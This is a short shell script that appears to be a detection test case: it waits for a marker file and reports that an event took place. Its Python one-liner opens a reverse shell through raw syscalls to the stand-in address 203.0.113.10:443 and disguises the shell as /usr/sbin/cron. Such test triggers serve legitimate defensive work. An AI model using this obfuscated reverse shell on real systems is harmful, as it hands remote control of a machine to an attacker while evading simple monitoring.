#!/bin/sh
. /opt/case/case.sh

python3 -c '
import ctypes
call = ctypes.CDLL(None).syscall
fd = call(41, 2, 1, 0)
to = ctypes.create_string_buffer(bytes([2, 0, 1, 0xbb, 203, 0, 113, 10]) + bytes(8))
assert call(42, fd, to, 16) == 0
for n in (0, 1, 2): call(292, fd, n, 0)
words = (ctypes.c_char_p * 2)(b"/usr/sbin/cron", None)
call(59, b"/bin/sh", words, (ctypes.c_char_p * 2)(b"PATH=/usr/bin:/bin", None))'
wait_for /tmp/reached
took_place
